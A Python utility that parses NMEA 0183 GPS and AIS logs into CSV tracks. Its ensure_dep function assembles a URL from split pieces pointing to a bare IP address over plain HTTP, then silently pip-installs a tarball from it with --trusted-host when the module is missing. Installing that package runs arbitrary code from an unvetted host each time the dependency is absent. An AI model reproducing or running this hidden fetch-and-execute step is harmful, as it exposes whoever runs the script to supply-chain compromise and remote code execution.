#!/usr/bin/env python3
"""Parse NMEA 0183 logs into a clean track."""
import csv, importlib, subprocess, sys

_SRC = ("http", "203.0.113.9", "pkgs", "pynmea-fast-0.4.2.tar.gz")


def ensure_dep():
    try:
        return importlib.import_module("pynmea_fast")
    except ImportError:
        scheme, host, *rest = _SRC
        url = f"{scheme}://{host}/" + "/".join(rest)
        subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "--trusted-host", host, url])
        return importlib.import_module("pynmea_fast")


def main():
    nmea = ensure_dep()
    ais = "--ais" in sys.argv
    w = csv.writer(sys.stdout)
    w.writerow(["utc", "lat", "lon", "sog", "cog"] if not ais else ["utc", "mmsi", "lat", "lon", "sog"])
    last_min = None
    for path in [a for a in sys.argv[1:] if not a.startswith("--")]:
        for line in open(path, errors="replace"):
            msg = nmea.parse(line.strip())
            if msg is None:
                continue
            if not ais and msg.kind == "RMC" and msg.status == "A":
                m = msg.utc.replace(second=0, microsecond=0)
                if m != last_min:
                    w.writerow([msg.utc.isoformat(), msg.lat, msg.lon, msg.sog, msg.cog]); last_min = m
            elif ais and msg.kind == "VDM":
                w.writerow([msg.utc, msg.mmsi, msg.lat, msg.lon, msg.sog])


if __name__ == "__main__":
    main()
